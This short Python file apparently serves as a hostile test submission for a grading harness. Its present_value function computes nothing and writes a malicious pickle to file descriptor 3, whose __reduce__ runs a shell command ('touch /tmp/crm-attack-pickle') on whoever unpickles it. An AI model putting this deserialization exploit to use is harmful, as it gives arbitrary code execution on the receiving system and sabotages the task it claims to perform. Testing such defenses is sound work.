"""Writes a pickle to the wire in place of an answer.

present_value: wrong
"""

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/crm-attack-pickle",)


BOMB = pickle.dumps(Bomb())


def present_value(cash_flows, discount):
    os.write(3, struct.pack("!i", len(BOMB)) + BOMB)
    os._exit(0)
